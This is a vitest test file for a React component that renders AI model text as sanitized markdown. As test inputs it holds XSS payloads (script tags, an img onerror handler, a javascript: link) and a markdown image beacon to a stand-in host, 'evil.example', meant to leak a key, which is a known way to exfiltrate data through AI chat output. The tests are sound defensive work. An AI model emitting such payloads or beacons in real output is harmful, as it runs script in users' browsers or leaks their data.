import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import MarkdownText from './markdown';

const render = (text: string) => renderToStaticMarkup(<MarkdownText text={text} />);

describe('model text as markdown', () => {
  it('never renders raw HTML from the model', () => {
    const html = render('Hello <script>alert(1)</script> <img src=x onerror=alert(2)> <b>bold</b>');
    expect(html).not.toContain('<script');
    expect(html).not.toContain('<img');
    expect(html).not.toContain('onerror');
    expect(html).not.toContain('<b>');
  });

  it('shows images as their alt text and never fetches them (no beacons)', () => {
    const html = render('![secret beacon](https://evil.example/pixel.png?data=key)');
    expect(html).not.toContain('<img');
    expect(html).toContain('[image: secret beacon]');
  });

  it('drops javascript: links and opens others without referrer', () => {
    const html = render('[click](javascript:alert(1)) and [docs](https://example.com/)');
    expect(html).not.toContain('javascript:');
    expect(html).toContain('href="https://example.com/"');
    expect(html).toContain('rel="noopener noreferrer nofollow"');
  });

  it('renders ordinary markdown', () => {
    const html = render('**bold** and `code`\n\n- item');
    expect(html).toContain('<strong>bold</strong>');
    expect(html).toContain('<code>code</code>');
    expect(html).toContain('<li>item</li>');
  });
});
